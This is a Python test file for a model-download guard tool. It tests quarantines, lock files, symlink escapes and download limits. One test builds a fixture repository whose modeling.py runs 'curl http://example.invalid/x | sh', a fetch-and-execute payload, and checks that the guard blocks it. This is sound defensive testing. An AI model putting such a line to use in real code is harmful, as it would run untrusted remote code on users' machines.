"""Folders, locks and quarantines that somebody has prepared, and pulls that meet in one place."""

from __future__ import annotations

import json
import os
import shutil
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing, suppress
from pathlib import Path

import pytest

from tests.hub.server import Hub
from tests.pull.repositories import CONFIG, contents, publish
from weighbridge import guard
from weighbridge.api import pull, verify
from weighbridge.core.artifact import Origin
from weighbridge.engine.scan import ScanSettings
from weighbridge.errors import DestinationError, GateClosed, UsageError
from weighbridge.fetchers.interface import Entry
from weighbridge.pull.digests import contradictions
from weighbridge.pull.download import Delivery, download
from weighbridge.pull.folder import FolderChanged, FolderDestination
from weighbridge.pull.journal import Journal
from weighbridge.pull.lock import encode_lock, read_lock
from weighbridge.pull.quarantine import Quarantine, quarantine_for

SETTINGS = ScanSettings(jobs=1)
FILES = {"config.json": CONFIG, "sub/vocab.txt": b"a\nb\n"}
TARGET = "hf://acme/model"
NOBODY = 65534


@pytest.fixture(autouse=True)
def published(hub: Hub, tmp_path: Path) -> None:
    publish(hub, tmp_path / "hub", "acme/model", FILES)


def prepared(folder: Path) -> Path:
    """A quarantine that says it holds what an interrupted pull of the target has brought."""
    root = quarantine_for(folder)
    (root / "tree").mkdir(parents=True)
    root.chmod(0o700)
    (root / "state.json").write_text(json.dumps({"identity": TARGET, "version": 1}))
    return root


def test_a_pipe_in_place_of_a_lock_does_not_make_us_wait(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "weighbridge.lock")

    with pytest.raises(UsageError, match="no regular file"):
        verify(tmp_path)
    with pytest.raises(DestinationError, match="no regular file"):
        FolderDestination(tmp_path, update=True).check(TARGET)


def test_a_folder_in_the_quarantine_that_leads_out_is_not_written_through(tmp_path: Path) -> None:
    folder, outside = tmp_path / "out" / "model", tmp_path / "outside"
    outside.mkdir()
    (prepared(folder) / "tree" / "sub").symlink_to(outside)

    pull(TARGET, folder, settings=SETTINGS)

    assert list(outside.iterdir()) == []
    assert not (folder / "sub").is_symlink()
    assert contents(folder) == FILES


def test_a_quarantine_of_pipes_and_folders_begins_anew(tmp_path: Path) -> None:
    root = prepared(tmp_path / "model")
    (root / "state.json").unlink()
    os.mkfifo(root / "state.json")
    (root / "journal").mkdir()

    with closing(Quarantine(root).take_over(TARGET)) as journal:
        assert journal.partial("config.json", "sha256:0", 1) is None
    assert sorted(os.listdir(root)) == ["journal", "state.json", "tree"]


def removed_without_privileges(folder: Path) -> bool:
    """Let a child that is nobody in particular remove the folder of another of its own."""
    child = os.fork()
    if child == 0:
        os.chdir(folder.parent)
        if os.geteuid() == 0:
            shutil.chown(folder, NOBODY)
            folder.parent.chmod(0o777)
            os.setuid(NOBODY)
        with suppress(OSError):
            Quarantine(Path()).clear()
        os._exit(0)
    os.waitpid(child, 0)
    return not folder.exists()


def test_a_folder_that_was_protected_from_writing_can_be_cleared(tmp_path: Path) -> None:
    """After an update it is the old one, which a user may have protected."""
    folder = tmp_path / "root" / "tree"
    folder.mkdir(parents=True)
    (folder / "file").write_bytes(b"x")
    folder.chmod(0o500)

    assert removed_without_privileges(folder)


def test_a_mount_point_is_named_before_the_network_is_asked(hub: Hub) -> None:
    with pytest.raises(DestinationError, match="a mount point"):
        FolderDestination(Path("/proc")).check(TARGET)
    assert hub.requests == []


def test_what_another_pull_has_brought_meanwhile_is_not_lost(tmp_path: Path) -> None:
    folder = tmp_path / "model"
    pull(TARGET, folder, include=["*.json"], settings=SETTINGS)
    late = FolderDestination(folder, update=True)
    late.check(TARGET)
    lock = read_lock(folder / "weighbridge.lock")
    (folder / "weighbridge.lock").write_bytes(encode_lock(lock).replace(b'"tool"', b'"new": 1, "tool"'))
    late.check(TARGET)
    (folder / "weighbridge.lock").write_bytes(encode_lock(lock).replace(b"hf://", b"https://", 1))
    quarantine = Quarantine(prepared(tmp_path / "other"))

    with pytest.raises(FolderChanged, match="another pull has exchanged"):
        late.place(quarantine, (), lock=lock, origin=None)  # type: ignore[arg-type]
    assert contents(folder) == {"config.json": CONFIG}


def test_files_that_are_asked_for_one_by_one_add_up_in_a_folder(tmp_path: Path) -> None:
    folder = tmp_path / "model"

    def one(name: str) -> str:
        return guard.hf_hub_download("acme/model", name, local_dir=folder, settings=SETTINGS)

    with ThreadPoolExecutor(2) as threads:
        paths = list(threads.map(one, FILES))

    assert [Path(path).read_bytes() for path in paths] == list(FILES.values())
    assert contents(folder) == FILES
    assert verify(folder, remote=True).exit_code == 0


def test_a_file_that_was_pulled_alone_is_handed_over_only_with_a_look_beside_it(
    hub: Hub, tmp_path: Path
) -> None:
    config = b'{"model_type": "x", "auto_map": {"AutoModel": "modeling.M"}}'
    code = b"import os\nos.system('curl http://example.invalid/x | sh')\nclass M: pass\n"
    publish(hub, tmp_path / "hub", "acme/evil", {"config.json": config, "modeling.py": code})
    cache = tmp_path / "cache"
    guard.snapshot_download("acme/evil", allow_patterns="*.json", cache_dir=cache, settings=SETTINGS)

    with pytest.raises(GateClosed) as closed:
        guard.hf_hub_download("acme/evil", "config.json", cache_dir=cache, settings=SETTINGS)

    assert closed.value.exit_code == 1


def test_selections_that_added_up_in_the_cache_are_still_what_the_target_has(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    for pattern in ("*.json", "*.txt"):
        folder = guard.snapshot_download(
            "acme/model", allow_patterns=pattern, cache_dir=cache, settings=SETTINGS
        )

    assert contents(Path(folder)) == FILES
    assert verify(folder, remote=True).differences == ()


def test_an_offline_environment_is_local_files_only(
    hub: Hub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = guard.snapshot_download("acme/model", cache_dir=tmp_path / "cache", settings=SETTINGS)
    asked = len(hub.requests)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")

    assert folder == guard.snapshot_download("acme/model", cache_dir=tmp_path / "cache")
    assert len(hub.requests) == asked


class Endless:
    """A source whose server says that there is far more than the registry states."""

    size = 1 << 50
    is_remote = True
    bytes_read = 0

    def read_at(self, offset: int, length: int) -> bytes:
        self.bytes_read += length
        return bytes(length)

    def close(self) -> None:
        """Nothing is open."""


def test_a_server_with_more_than_the_registry_states_does_not_fill_the_disk(tmp_path: Path) -> None:
    source = Endless()
    entry = Entry(
        name="model.bin", size_bytes=1000, origin=Origin(kind="x", location="x"), open=lambda: source
    )
    (tmp_path / "tree").mkdir()
    with closing(Journal(tmp_path / "journal")) as journal:
        delivery = Delivery(
            tree=tmp_path / "tree", journal=journal, copies_of=lambda _: (), brought=lambda *_: None
        )
        (arrived,) = download([entry], delivery)

    assert source.bytes_read == 1000
    assert [finding.rule for finding in contradictions(entry, arrived.content)] == ["ORG003"]
